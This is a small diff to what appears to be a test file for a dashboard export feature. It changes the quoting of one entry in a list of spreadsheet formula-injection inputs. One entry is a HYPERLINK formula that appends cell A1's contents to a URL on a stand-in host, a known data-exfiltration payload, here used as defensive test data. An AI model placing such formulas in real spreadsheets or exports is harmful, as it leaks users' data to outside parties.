@@ -9,7 +9,7 @@ from dashboard.export.context import Context, Definition
 
 FORMULAS = (
     "=1+1",
-    "=HYPERLINK(\"http://example.org/?\"&A1,\"点击\")",
+    '=HYPERLINK("http://example.org/?"&A1,"点击")',
     "+8613800000000",
     "-2+3",
     "@SUM(A1:A9)",
